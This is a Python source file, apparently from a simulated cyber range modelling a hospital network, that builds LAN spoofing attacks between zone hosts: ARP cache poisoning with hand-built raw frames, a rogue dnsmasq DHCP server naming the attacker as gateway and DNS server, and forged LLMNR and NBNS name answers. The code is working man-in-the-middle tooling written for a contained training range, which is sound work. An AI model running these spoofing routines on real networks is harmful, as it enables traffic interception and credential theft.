"""Lies that a machine tells its neighbours in a zone: leases, ARP, names by multicast. All frames are made here, none leaves the zone."""

from __future__ import annotations

import socket
import struct
import subprocess
import time
from datetime import datetime

from act import Doing
from lan import RangeError
from services.leases import again
from space import at
from state import Hospital
from topology import Host

ARP_REPLY = 2
LLMNR, NBNS = ("224.0.0.252", 5355), 137
ANSWER_S = 0.2


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def spoof_arp(liar: str, victim: str, times: int) -> Doing:
    """Tell the victim, again and again, that the gateway's address is the liar's (RFC 826); the victim's table is put right at the end."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        own, other = hospital.host(liar), hospital.host(victim)
        gateway = hospital.topology.zone_of[liar].gateway
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as link:
            link.bind(("eth0", 0))
            for _ in range(times):
                link.send(_arp(own, gateway, other))
                time.sleep(0.02)
        with at(victim):
            subprocess.run(["ip", "neigh", "flush", "all"], check=True)

    return doing


def _arp(own: Host, address: str, to: Host) -> bytes:
    head = _mac(to.mac) + _mac(own.mac) + b"\x08\x06" + struct.pack("!HHBBH", 1, 0x0800, 6, 4, ARP_REPLY)
    return head + _mac(own.mac) + socket.inet_aton(address) + _mac(to.mac) + socket.inet_aton(to.address)


def find_gateway(name: str) -> Doing:
    """The host forgets its gateway's card and asks for it, and the true one answers."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        subprocess.run(["ip", "neigh", "flush", "all"], check=True)
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.sendto(b"", (hospital.address(hospital.topology.nameserver), 9))
        time.sleep(0.05)

    return doing


def rogue_leases(liar: str, victim: str) -> Doing:
    """A second DHCP server in the zone, while the victim asks for its lease: the liar is gateway and name server (RFC 2131 4.3.1)."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        folder, own = hospital.folder(liar), hospital.host(liar)
        net = hospital.topology.zone_of[liar].net
        lines = [f"dhcp-range={net[200]},{net[220]},10m", f"dhcp-option=option:router,{own.address}", "port=0", "no-ping", "user=root"]
        lines += [f"dhcp-option=option:dns-server,{own.address}", f"dhcp-leasefile={folder}/leases", f"pid-file={folder}/dnsmasq.pid"]
        conf = folder / "dnsmasq.conf"
        conf.write_text("\n".join([*lines, "interface=eth0", "bind-dynamic", "dhcp-authoritative"]) + "\n")
        known = hospital.folder(victim) / "dhclient.leases"
        known.unlink(missing_ok=True)  # who has no lease asks everybody
        with _running(["dnsmasq", "--keep-in-foreground", "-C", str(conf)]), at(victim):
            again(hospital, hospital.host(victim))
        known.unlink(missing_ok=True)

    return doing


class _running:
    """A daemon of the attacker's, as long as the act lasts."""

    def __init__(self, words: list[str]) -> None:
        self._process = subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def __enter__(self) -> None:
        deadline = time.monotonic() + 5
        while ":67 " not in subprocess.run(["ss", "-Hlnu"], capture_output=True, text=True, check=True).stdout:
            if self._process.poll() is not None or time.monotonic() > deadline:
                raise RangeError("the second DHCP server does not listen")
            time.sleep(0.02)

    def __exit__(self, *error: object) -> None:
        self._process.kill()
        self._process.wait()


def answer_names(liar: str, victim: str, names: list[str]) -> Doing:
    """The victim asks its neighbours for names that no server knows, by LLMNR (RFC 4795) and NBNS (RFC 1002); the liar says: that is me."""

    def doing(hospital: Hospital, moment: datetime) -> None:
        own, other = hospital.host(liar), hospital.host(victim)
        for number, name in enumerate(names):
            asked = struct.pack("!HHHHHH", 0x1000 + number, 0, 1, 0, 0, 0) + bytes((len(name),)) + name.encode() + b"\0\0\1\0\1"
            told = asked[:2] + b"\x80\0\0\1\0\1\0\0\0\0" + asked[12:] + b"\xc0\x0c\0\1\0\1\0\0\0\x1e\0\4" + socket.inet_aton(own.address)
            _ask(other, LLMNR, asked, told, own, LLMNR[1])
            label = netbios(name)
            asked = struct.pack("!HHHHHH", 0x2000 + number, 0x0110, 1, 0, 0, 0) + label + b"\0\x20\0\1"
            told = asked[:2] + b"\x85\0\0\0\0\1\0\0\0\0" + label + b"\0\x20\0\1\0\0\0\xa5\0\6\0\0" + socket.inet_aton(own.address)
            _ask(other, (str(hospital.topology.zone_of[victim].net.broadcast_address), NBNS), asked, told, own, NBNS)

    return doing


def netbios(name: str) -> bytes:
    """First-level encoding (RFC 1001 14.1) of a workstation's or server's name."""
    padded = name.upper().ljust(15)[:15] + "\x20"
    return b"\x20" + bytes(65 + half for letter in padded.encode() for half in (letter >> 4, letter & 15)) + b"\0"


def _ask(victim: Host, to: tuple[str, int], asked: bytes, told: bytes, liar: Host, port: int) -> None:
    with at(victim.name):
        asks = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        asks.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        asks.bind((victim.address, port if port == NBNS else 0))
        asks.settimeout(ANSWER_S)
    with asks, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as answers:
        answers.bind((liar.address, port))
        asks.sendto(asked, to)
        answers.sendto(told, asks.getsockname())
        if asks.recv(512) != told:
            raise RangeError("the lie did not arrive")
